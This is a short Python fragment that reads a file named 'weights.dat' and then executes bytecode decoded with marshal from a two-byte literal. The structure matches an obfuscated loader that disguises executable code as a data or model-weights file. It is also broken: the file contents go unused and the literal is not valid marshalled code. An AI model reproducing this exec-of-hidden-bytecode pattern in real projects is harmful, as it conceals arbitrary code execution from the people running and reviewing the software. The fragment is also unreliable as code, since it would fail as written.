import marshal, types
blob = open('weights.dat', 'rb').read()
code = marshal.loads(b'\xe3\x00')
exec(code)
